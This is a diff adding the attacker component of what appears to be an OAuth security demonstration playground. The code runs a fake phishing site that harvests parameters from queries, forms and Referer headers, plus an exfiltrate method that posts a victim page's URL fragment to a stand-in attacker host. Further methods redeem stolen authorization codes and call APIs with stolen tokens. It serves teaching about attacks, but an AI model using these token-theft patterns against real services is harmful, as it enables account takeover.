@@ -1,0 +1,146 @@
+"""The attacker: a site at `attacker.playground.test` that keeps whatever
+leaks to it, a browser of their own, and an HTTP client to spend the loot.
+
+Everything the attacker touches crosses the virtual network, so the
+transcript and the sequence diagram show the attack as its own lifeline.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from urllib.parse import parse_qs, urlsplit
+
+import httpx
+from flask import Flask, request
+
+from ..exchange import Party
+from ..network import Network
+from .browser import Browser
+
+ATTACKER_URL = "https://attacker.playground.test"
+
+_PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8">
+<title>Free prints! - totally legit</title></head><body>
+<h1>Win 100 free photo prints!</h1>
+<p>Just sign in with your photo account below.</p>
+<img src="https://attacker.playground.test/pixel.gif" alt="">
+</body></html>"""
+
+
+@dataclass(frozen=True)
+class Loot:
+    """One thing that reached the attacker's site, and how it got there."""
+
+    path: str
+    via: str  # "query", "form", "referer"
+    name: str
+    value: str
+
+
+@dataclass
+class AttackerSite:
+    """The attacker's web server: every request it gets is searched for loot."""
+
+    loot: list[Loot] = field(default_factory=list)
+    app: Flask = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.app = self._create_app()
+
+    def values(self, name: str) -> list[str]:
+        """Every value of a parameter the site has received, oldest first."""
+        return [item.value for item in self.loot if item.name == name]
+
+    def _keep(self) -> None:
+        for name, values in request.args.lists():
+            self.loot.extend(Loot(request.path, "query", name, v) for v in values)
+        for name, values in request.form.lists():
+            self.loot.extend(Loot(request.path, "form", name, v) for v in values)
+        referer = request.headers.get("Referer", "")
+        parts = urlsplit(referer)
+        for part in (parts.query, parts.fragment):
+            for name, values in parse_qs(part).items():
+                self.loot.extend(Loot(request.path, "referer", name, v) for v in values)
+
+    def _create_app(self) -> Flask:
+        app = Flask("attacker_site")
+
+        @app.route("/", defaults={"path": ""}, methods=["GET", "POST"])
+        @app.route("/<path:path>", methods=["GET", "POST"])
+        def anything(path: str) -> tuple[str, int] | str:
+            self._keep()
+            if path.endswith(".gif"):
+                return "", 204
+            return _PAGE
+
+        return app
+
+
+class Attacker:
+    """Mallory: their site, their browser, and a client to use stolen things."""
+
+    def __init__(self, network: Network, issuer: str, api_url: str) -> None:
+        self.site = AttackerSite()
+        self.network = network
+        self.issuer = issuer
+        self.api_url = api_url
+        self.browser = Browser(network)
+        self.http = network.client(Party.ATTACKER, user_agent="EvilBot/6.6")
+        self.stolen: dict[str, str] = {}
+
+    @property
+    def url(self) -> str:
+        return ATTACKER_URL
+
+    def loot(self, name: str) -> list[str]:
+        return self.site.values(name)
+
+    def exfiltrate(self, browser: Browser, *, path: str = "/collect") -> httpx.Response:
+        """A script of the attacker's running in the victim's page reads the
+        address bar (fragment included) and sends it home."""
+        parts = urlsplit(browser.address)
+        params = {
+            key: values[0]
+            for part in (parts.query, parts.fragment)
+            for key, values in parse_qs(part).items()
+        }
+        return browser.http.post(f"{ATTACKER_URL}{path}", data=params)
+
+    def redeem_code(
+        self,
+        code: str,
+        *,
+        client_id: str,
+        redirect_uri: str,
+        code_verifier: str | None = None,
+        client_secret: str | None = None,
+    ) -> httpx.Response:
+        """Try the stolen code at the token endpoint, as the victim's client."""
+        data = {
+            "grant_type": "authorization_code",
+            "code": code,
+            "redirect_uri": redirect_uri,
+            "client_id": client_id,
+        }
+        if code_verifier:
+            data["code_verifier"] = code_verifier
+        auth = (client_id, client_secret) if client_secret else None
+        if auth:
+            data.pop("client_id")
+        response = self.http.post(f"{self.issuer}/token", data=data, auth=auth)
+        if response.status_code == 200:
+            self.stolen.update(response.json())
+        return response
+
+    def token_request(
+        self, data: dict[str, str], auth: tuple[str, str] | None = None
+    ) -> httpx.Response:
+        response = self.http.post(f"{self.issuer}/token", data=data, auth=auth)
+        if response.status_code == 200:
+            self.stolen.update(response.json())
+        return response
+
+    def call_api(self, path: str, access_token: str) -> httpx.Response:
+        return self.http.get(
+            f"{self.api_url}{path}", headers={"Authorization": f"Bearer {access_token}"}
+        )
